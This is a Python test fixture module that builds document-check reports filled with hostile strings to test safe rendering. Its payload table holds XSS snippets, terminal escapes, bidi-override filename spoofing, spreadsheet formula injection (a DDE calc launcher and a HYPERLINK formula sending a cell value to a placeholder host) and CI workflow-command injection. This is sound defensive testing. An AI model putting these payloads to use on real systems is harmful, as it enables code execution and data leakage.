"""Reports with every status, and with words in every place that try to act on what shows them."""

from __future__ import annotations

from dataclasses import replace

from dhrcheck.engine import Report
from dhrcheck.outcome import Box, Evidence, NearMiss, PageRange, ReadAs, Severity, Status
from dhrcheck.rulebook.model import Source
from tests.report_builder import a_file, a_report, a_result, a_rule

HOSTILE = {
    "control characters": "a\x1b[31mred\x9b2J\x00\x07\x7f\x85 end",
    "direction": "مرحبا \u202egnp.fdp\u2066 עברית \u200f end",
    "surrogate": "half \ud83d a pair \udcff end",
    "no XML": "\ufffe\uffff\x0b\x0c\x01 end",
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://a.example/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "semicolon": 'a";=1+1;@SUM(1)',
    "wide": "＝1+1",
    "CDATA": "]]><failure/>&amp;<!-- --><![CDATA[",
    "long": "word " * 2_000,
    "marks": "“" * 50 + "”" * 3,
    "emoji": "👩‍👩‍👧 Zoë 🇬🇧.pdf",
    "commands": "x\n::error::y\r\n::set-output name=a::b\n##[error]z %0A::stop-commands::t",
    "markdown": "![p](http://a.example/p.png) [l](javascript:alert(1)) **b** `c` | d | <b>e</b> ~~f~~ _g_",
    "links": "www.: http://a.example www.b.example <http://c.example> mailto:d@e.example "
    "f@g.example //h.example",
    "calls": "@someone @an-org/team #12 GH-3 me/this#4",
    "blocks": "# h\n\n> q\n\n- l\n\n1. n\n\n---\n\n    code\n\n| a |\n| - |\n\n```\nx",
    "fence": "``` `` ` ``````",
    "empty": "",
    "percent": "100%25 %0A %%",
}
"""What tries to act, by what it tries."""


def a_hostile_report(words: str) -> Report:
    """A report with ``words`` wherever a file, a rule or a person may have put them."""
    rule = replace(
        a_rule("letter-annexed", title=f"Title {words}", source=(Source(words, seen=True),)),
        why=words,
        fix=words,
    )
    evidence = (
        Evidence(0, 2, words, Box(1, 2, 3, 4), ReadAs.OCR, 88.0),
        Evidence(0, 2, words),
        Evidence(1, None, words),
    )
    searched = (PageRange(0, 1, 3),)
    found = {
        status: a_result(
            status,
            words,
            rule=replace(rule, id=f"letter-{status.value}"),
            evidence=evidence,
            nearest=NearMiss(1, 1, words, 71.0),
            fix=words,
        )
        for status in Status
    }
    found[Status.ERROR] = replace(found[Status.ERROR], defect=words)
    looked = a_result(Status.FAIL, words, rule=replace(rule, id="own"), searched=searched)
    waived = a_result(
        Status.FAIL, words, rule=replace(rule, id="file-size"), decision=f"Waived: {words}"
    )
    advised = a_result(
        Status.UNREAD, words, rule=replace(rule, id="plan-scope", severity=Severity.ADVISED)
    )
    files = (a_file(f"{words}.pdf"), a_file("letter.pdf", "tib", reason=words))
    report = a_report(*found.values(), looked, waived, advised, files=files, partial=True)
    return replace(report, ruleset=replace(report.ruleset, profile=words))


def every_status() -> Report:
    """A report with each status, required and advised, and one that a person waived."""
    results = []
    for severity in Severity:
        for status in Status:
            rule = a_rule(f"letter-{status.value}-{severity.value}", severity)
            found = (Evidence(0, 2, f"the {status.value} words", Box(1, 2, 3, 4)),)
            results.append(a_result(status, f"It is {status.value}.", rule=rule, evidence=found))
    waived = a_rule("file-size", title="Small enough")
    results.append(a_result(Status.FAIL, "Too big.", rule=waived, decision="Waived by the chair."))
    return a_report(*results, files=(a_file("reports/review.pdf"), a_file("letter.pdf")))
